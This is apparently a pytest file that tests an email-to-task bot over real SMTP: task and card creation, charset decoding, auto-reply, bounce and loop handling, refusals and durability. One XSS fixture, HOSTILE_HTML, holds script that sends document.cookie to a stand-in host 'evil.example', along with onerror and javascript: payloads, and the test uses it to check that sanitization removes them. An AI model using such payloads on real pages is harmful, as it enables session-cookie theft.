"""Mail over real SMTP into the listener: tasks, invitation cards, refusals, automatic mail."""

from __future__ import annotations

import json
import shutil
import signal
import smtplib
import sqlite3
import subprocess
from email.message import EmailMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path
from typing import Any

import pytest

from bot.domain.events import Event
from bot.domain.mail import EMAIL_FAILED
from bot.services.context import Ctx
from bot.storage.sqlite import SqliteStore
from tests.app_process import app_process
from tests.cards.walk import nodes
from tests.email.conftest import MailWorld, mail_catalog
from tests.email.mailer import free_port, mail, send, smtp_sink
from tests.support.cards import find_action
from tests.support.node import skip_without_node
from tests.support.world import running_world

ROOT = Path(__file__).resolve().parents[2]
VALIDATOR = ROOT / "tests" / "cards" / "validate_cards.js"
HOSTILE_HTML = (
    "<html><head><style>p {color: red}</style><script>alert('head')</script></head><body>"
    "<p onclick=\"steal()\">Hello <b>team</b>,</p>"
    "<p>my order <a href=\"javascript:alert(1)\">42</a> never came.</p>"
    "<img src=\"https://tracker.example/p.gif\" onerror=\"alert(document.cookie)\">"
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    "<p>Regards,<br>Jane</p></body></html>")


def texts(card: dict[str, Any]) -> str:
    found: list[str] = []
    for node in nodes(card):
        if node.get("type") == "TextBlock":
            found.append(node["text"])
        if node.get("type") == "FactSet":
            found.extend(f"{f['title']}: {f['value']}" for f in node["facts"])
    return "\n".join(found)


async def events(world: MailWorld, name: str) -> list[Event]:
    async def load(ctx: Ctx) -> list[Event]:
        return [e for e in await ctx.uow.events.after(0, 1000) if e.name == name]
    return await world.world.engine.run(load)


def validate(cards: dict[str, dict[str, Any]]) -> None:
    """The official adaptivecards parser finds nothing wrong; without node and the npm
    package, the test (its other checks passed) ends skipped, saying so."""
    skip_without_node("adaptivecards")
    node = shutil.which("node")
    assert node is not None
    done = subprocess.run([node, str(VALIDATOR)], input=json.dumps(cards), capture_output=True,
                          text=True, cwd=ROOT, timeout=120, check=True)
    for name, found in json.loads(done.stdout).items():
        assert "crash" not in found, (name, found)
        assert found["events"] == [] and found["unknownProperties"] == [], (name, found)


async def test_a_plain_mail_becomes_a_task_and_an_invitation(mail_world: MailWorld) -> None:
    agent = await mail_world.agent()
    refused = await send(mail_world.smtp_port, mail(), to=["Sales@Example.com"])
    assert refused == {}
    [task] = await mail_world.tasks()
    assert task.modality.value == "email" and task.service_id == "sales"
    assert task.customer.name == "Jane Doe" and task.customer.email == "jane@example.net"
    assert task.content["subject"] == "Refund"
    assert task.content["sender"] == "Jane Doe <jane@example.net>"
    assert task.content["text"].startswith("Please refund order 42.")
    assert task.content["preview"] == "Please refund order 42. Thanks, Jane"
    invitation = await mail_world.invitation(agent)
    shown = texts(invitation["card"])
    assert "From: Jane Doe ‹jane@example.net›" in shown
    assert "Subject: Refund" in shown and "Please refund order 42. Thanks, Jane" in shown
    accept = find_action(invitation["card"], "accept")
    assert accept is not None
    accepted = await agent.click("accept", accept["data"], reply_to=invitation["id"])
    assert "Please refund order 42.\nThanks, Jane" in texts(accepted)
    assert {"reply", "mark_handled"} <= {a["verb"] for a in _executes(accepted)}
    assert find_action(accepted, "reply_all") is None  # nobody else was on To or Cc
    validate({"invitation": invitation["card"], "accepted": accepted})


def _executes(card: Any) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    if isinstance(card, dict):
        if card.get("type") == "Action.Execute":
            found.append(card)
        for value in card.values():
            found += _executes(value)
    elif isinstance(card, list):
        for item in card:
            found += _executes(item)
    return found


async def test_html_is_sanitized_and_no_card_carries_markup(mail_world: MailWorld) -> None:
    agent = await mail_world.agent()
    message = EmailMessage()
    message["From"] = "jane@example.net"
    message["To"] = "sales@example.com"
    message["Subject"] = "<script>alert('subject')</script> Order"
    message.set_content(HOSTILE_HTML, subtype="html")
    await send(mail_world.smtp_port, message)
    [task] = await mail_world.tasks()
    html = task.content["html"]
    assert "Hello <b>team</b>" in html
    for bad in ("<script", "onerror", "onclick", "javascript:", "<style", "alert("):
        assert bad not in html.lower(), bad
    # No plain part: the text is the HTML's text, without script content.
    assert task.content["text"] == "Hello team,\n\nmy order 42 never came.\n\nRegards,\nJane"
    invitation = await mail_world.invitation(agent)
    accept = find_action(invitation["card"], "accept")
    assert accept is not None
    accepted = await agent.click("accept", accept["data"], reply_to=invitation["id"])
    for card in (invitation["card"], accepted, *(c["card"] for c in agent.cards())):
        dumped = json.dumps(card, ensure_ascii=False).lower()
        for bad in ("<script", "onerror", "onclick", "javascript:", "<b>", "<p"):
            assert bad not in dumped, bad
    assert "my order 42 never came." in texts(accepted)
    assert "‹script›alert\\('subject'\\)‹/script› Order" in texts(accepted)
    validate({"invitation": invitation["card"], "accepted": accepted})


async def test_attachments_are_listed_with_their_sizes(mail_world: MailWorld) -> None:
    agent = await mail_world.agent()
    message = mail(subject="Invoices")
    message.add_attachment(b"%PDF-1.4 " + b"x" * 20_000, maintype="application",
                           subtype="pdf", filename="invoice 42.pdf")
    message.add_attachment(b"date;amount\n2026-11-01;42.00\n", maintype="text",
                           subtype="csv", filename="Übersicht.csv")
    await send(mail_world.smtp_port, message)
    [task] = await mail_world.tasks()
    assert task.content["attachments"] == ["invoice 42.pdf (20 KB)", "Übersicht.csv (29 B)"]
    assert task.content["text"].startswith("Please refund order 42.")
    invitation = await mail_world.invitation(agent)
    assert "Attachments: invoice 42.pdf \\(20 KB\\), Übersicht.csv \\(29 B\\)" in \
        texts(invitation["card"])
    accept = find_action(invitation["card"], "accept")
    assert accept is not None
    accepted = await agent.click("accept", accept["data"], reply_to=invitation["id"])
    assert "invoice 42.pdf" in texts(accepted) and "Übersicht.csv" in texts(accepted)


async def test_a_latin_1_mail_is_decoded(mail_world: MailWorld) -> None:
    await mail_world.agent()
    message = MIMEText("Grüße aus Zürich, ça coûte 42 €?".replace("€", "EUR"), "plain",
                       "iso-8859-1")
    message["From"] = "=?iso-8859-1?q?J=FCrg_M=FCller?= <juerg@example.ch>"
    message["To"] = "sales@example.com"
    message["Subject"] = "=?iso-8859-1?q?Gr=FC=DFe?="
    raw = message.as_bytes()
    assert b"\xfc" in raw or b"=FC" in raw  # really not UTF-8 on the wire
    await send(mail_world.smtp_port, raw, sender="juerg@example.ch")
    [task] = await mail_world.tasks()
    assert task.content["subject"] == "Grüße"
    assert task.content["text"] == "Grüße aus Zürich, ça coûte 42 EUR?"
    assert task.customer.name == "Jürg Müller"


async def test_an_8bit_windows_1252_mail_is_decoded(mail_world: MailWorld) -> None:
    raw = (b"From: Ana <ana@example.es>\r\nTo: sales@example.com\r\nSubject: Pedido\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=windows-1252\r\n"
           b"Content-Transfer-Encoding: 8bit\r\n\r\n") + \
        "Año nuevo – “pedido” 42\r\n".encode("cp1252")
    await send(mail_world.smtp_port, raw, sender="ana@example.es")
    [task] = await mail_world.tasks()
    assert task.content["text"] == "Año nuevo – “pedido” 42"


@pytest.mark.parametrize(("extra", "reason"), [
    ({"Auto-Submitted": "auto-replied"}, "auto_reply"),
    ({"Auto-Submitted": "auto-generated; owner=x"}, "auto_reply"),
    ({"X-Autoreply": "yes"}, "auto_reply"),
    ({"Precedence": "bulk"}, "bulk"),
    ({"Precedence": "list"}, "bulk"),
])
async def test_automatic_mail_is_recorded_as_failed(mail_world: MailWorld, extra: dict[str, str],
                                                   reason: str) -> None:
    message = mail(subject="Out of office")
    for name, value in extra.items():
        message[name] = value
    assert await send(mail_world.smtp_port, message) == {}  # accepted: bouncing it would loop
    assert await mail_world.tasks() == []
    [failed] = await events(mail_world, EMAIL_FAILED)
    assert failed.service_id == "sales" and failed.data == {"reason": reason}
    assert "jane" not in json.dumps(failed.data)  # no customer data in events


async def test_a_person_writing_auto_submitted_no_gets_a_task(mail_world: MailWorld) -> None:
    message = mail()
    message["Auto-Submitted"] = "no"
    await send(mail_world.smtp_port, message)
    assert len(await mail_world.tasks()) == 1


async def test_a_bounce_is_recorded_as_failed(mail_world: MailWorld) -> None:
    report = MIMEMultipart("report", report_type="delivery-status")
    report["From"] = "Mail Delivery System <mailer-daemon@example.net>"
    report["To"] = "sales@example.com"
    report["Subject"] = "Undelivered Mail Returned to Sender"
    report.attach(MIMEText("Your message could not be delivered."))
    await send(mail_world.smtp_port, report.as_bytes(), sender="")
    assert await mail_world.tasks() == []
    [failed] = await events(mail_world, EMAIL_FAILED)
    assert failed.data == {"reason": "bounce"}


async def test_mail_from_a_service_address_is_a_loop(mail_world: MailWorld) -> None:
    await send(mail_world.smtp_port, mail(sender="Support <support@example.com>"),
               sender="support@example.com")
    assert await mail_world.tasks() == []
    [failed] = await events(mail_world, EMAIL_FAILED)
    assert failed.data == {"reason": "loop"}


async def test_an_unknown_address_is_refused_with_550(mail_world: MailWorld) -> None:
    with pytest.raises(smtplib.SMTPRecipientsRefused) as refused:
        await send(mail_world.smtp_port, mail(to="nobody@example.com"),
                   to=["nobody@example.com"])
    assert refused.value.recipients["nobody@example.com"][0] == 550
    # With one address of ours among others, only the others are refused.
    refused_now = await send(mail_world.smtp_port, mail(),
                             to=["sales@example.com", "relay-me@elsewhere.example"])
    assert list(refused_now) == ["relay-me@elsewhere.example"]
    assert len(await mail_world.tasks()) == 1


async def test_one_message_to_two_services_is_one_task_each(mail_world: MailWorld) -> None:
    message = mail(to="sales@example.com, support@example.com", cc="carl@example.org")
    await send(mail_world.smtp_port, message, to=["sales@example.com", "support@example.com"])
    tasks = sorted(await mail_world.tasks(), key=lambda t: t.service_id)
    assert [t.service_id for t in tasks] == ["sales", "support"]
    # Reply all reaches the other person on the message, never our own addresses.
    assert tasks[0].content["others"] == ["carl@example.org"]
    assert tasks[0].channel["address"] == "sales@example.com"


async def test_a_message_delivered_twice_is_one_task(mail_world: MailWorld) -> None:
    await send(mail_world.smtp_port, mail(message_id="<same@example.net>"))
    await send(mail_world.smtp_port, mail(message_id="<same@example.net>"))
    await send(mail_world.smtp_port, mail(message_id="<other@example.net>"))
    assert len(await mail_world.tasks()) == 2


async def test_no_250_while_the_store_cannot_commit(tmp_path: Path) -> None:
    """A locked database answers 451 (the sender retries); after the lock, 250 and a task."""
    path = tmp_path / "sb.db"
    store = await SqliteStore(path, busy_timeout_ms=20).open()
    port = free_port()
    try:
        async with smtp_sink() as sink, running_world(
                mail_catalog(), tmp_path, smtp_port=port, smtp_relay=f"127.0.0.1:{sink.port}",
                app_options={"storage": store}) as world:
            blocker = sqlite3.connect(path, isolation_level=None)
            blocker.execute("BEGIN EXCLUSIVE")
            with pytest.raises(smtplib.SMTPDataError) as refused:
                await send(port, mail())
            assert refused.value.smtp_code == 451
            blocker.execute("ROLLBACK")
            blocker.close()
            assert await send(port, mail()) == {}
            world_tasks = await MailWorld(world, port, sink).tasks()
            assert len(world_tasks) == 1
    finally:
        await store.close()


def test_a_kill_right_after_250_loses_nothing(tmp_path: Path) -> None:
    """The real app in a process, killed (SIGKILL) the moment the listener said 250."""
    services = ('[[service]]\nid = "sales"\nname = "Sales"\nmodalities = ["email"]\n'
                'members = ["a1@example.com"]\nemail = "sales@example.com"\n')
    with app_process(tmp_path, services, smtp=True) as app, \
            smtplib.SMTP("127.0.0.1", app.smtp_port, timeout=10) as smtp:
        smtp.ehlo()
        smtp.mail("jane@example.net")
        smtp.rcpt("sales@example.com")
        code, _ = smtp.data(mail(message_id="<kill@example.net>").as_string())
        app.process.send_signal(signal.SIGKILL)
    assert code == 250
    database = sqlite3.connect(app.db_path)
    rows = database.execute("SELECT service_id, state, data FROM tasks").fetchall()
    database.close()
    assert len(rows) == 1 and rows[0][:2] == ("sales", "queued")
    assert json.loads(rows[0][2])["content"]["subject"] == "Refund"
